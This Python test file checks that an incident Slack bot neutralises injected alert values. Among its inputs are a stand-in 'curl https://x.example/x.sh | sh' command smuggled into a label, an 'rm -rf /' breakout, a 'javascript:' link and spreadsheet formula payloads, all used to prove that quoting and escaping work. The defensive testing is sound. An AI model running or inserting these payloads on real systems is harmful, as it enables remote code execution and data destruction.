"""Findings 5, 6 and 13: values from alerts and people cannot turn into something else where
they land. A runbook command gets each value as one shell word; a broadcast nested inside a
link does not survive, and no link can carry a label of its own; a spreadsheet does not run a
report cell."""

from __future__ import annotations

from datetime import UTC, datetime

from bot.app import Warroom
from bot.documents.reports import to_csv
from bot.domain.metrics import METRICS, Group, MttrReport, Report, Trend, stats
from bot.domain.runbooks import render_command
from bot.sim.driver import SlackDriver
from bot.sim.server import SlackSimulator
from bot.slack.blocks import command_blocks
from bot.slack.text import escape_keeping_mentions, link
from tests.conftest import People
from tests.e2e.conftest import Declared
from tests.e2e.helpers import settle

POISON = {"labels": {"namespace": "prod; curl https://x.example/x.sh | sh; #", "pod": "web-1"}}


def test_label_values_are_one_shell_word_each() -> None:
    template = "kubectl -n {{ labels.namespace }} delete pod {{ labels.pod }}"
    assert render_command(template, POISON) == (
        "kubectl -n 'prod; curl https://x.example/x.sh | sh; #' delete pod web-1"
    )
    breakout = {"labels": {"namespace": "prod\n```\n<!here> `rm -rf /`", "pod": "it's"}}
    rendered = render_command(template, breakout)
    assert "\n" not in rendered and "`" not in rendered
    assert rendered == "kubectl -n 'prod<!here> rm -rf /' delete pod 'it'\"'\"'s'"


def test_a_command_says_which_values_came_from_the_alert() -> None:
    code, origin = command_blocks("kubectl -n {{ labels.namespace }} logs {{ labels['pod'] }}", POISON)
    assert code["text"]["text"] == "```kubectl -n 'prod; curl https://x.example/x.sh | sh; #' logs web-1```"
    assert origin["elements"][0]["text"] == (
        ":mag: Filled in from the alert's labels (`namespace`, `pod`): check them before you run it."
    )
    assert len(command_blocks("uptime", POISON)) == 1


def test_a_broadcast_inside_a_link_is_escaped() -> None:
    assert (
        escape_keeping_mentions("see <https://a.example/<!here>") == "see &lt;https://a.example/&lt;!here&gt;"
    )
    assert escape_keeping_mentions("see <https://a.example/x|label>") == "see <https://a.example/x>"
    assert (
        escape_keeping_mentions("<https://a.example/x|<!channel>>")
        == "&lt;https://a.example/x|&lt;!channel&gt;&gt;"
    )


def test_links_cannot_carry_their_own_label() -> None:
    assert link("https://evil.example/|Grafana dashboard", "Open in grafana") == (
        "<https://evil.example/%7CGrafana%20dashboard|Open in grafana>"
    )
    assert link("https://a.example/<!here>", "x|y") == "<https://a.example/%3C!here%3E|x¦y>"
    assert link("javascript:alert(1)", "Open") == "Open"


async def test_notes_with_nested_broadcasts_reach_slack_harmless(
    warroom: Warroom, slack: SlackDriver, sim: SlackSimulator, people: People, declared: Declared
) -> None:
    await slack.command(people.alice, "note look at <https://a.example/<!here>", declared.channel.id)
    await slack.command(people.alice, "followup check <https://a.example/<!channel>", declared.channel.id)
    await settle(warroom)
    texts = [m["text"] for m in declared.channel.messages]
    assert any("look at" in t for t in texts) and any("check" in t for t in texts)
    assert not any("<!here>" in t or "<!channel>" in t for t in texts)
    timeline = (await slack.command(people.alice, "timeline", declared.channel.id)).json()["text"]
    assert "<!here>" not in timeline and "&lt;!here&gt;" in timeline


def test_csv_cells_never_start_a_formula() -> None:
    now = datetime(2026, 12, 1, tzinfo=UTC)
    measured = {metric: stats([60.0]) for metric in METRICS}
    groups = {
        name: Group(1, 0, dict(measured))
        for name in ('=HYPERLINK("https://x")', "+1", "-1", "@SUM(A1)", "checkout")
    }
    report = MttrReport(now, now, UTC, "service", Report(groups, 0), Trend("week", [], {}))
    cells = [line.split(",")[0] for line in to_csv(report).splitlines()[1:]]
    assert {c.strip('"') for c in cells} == {
        '\'=HYPERLINK(""https://x"")',
        "'+1",
        "'-1",
        "'@SUM(A1)",
        "checkout",
    }
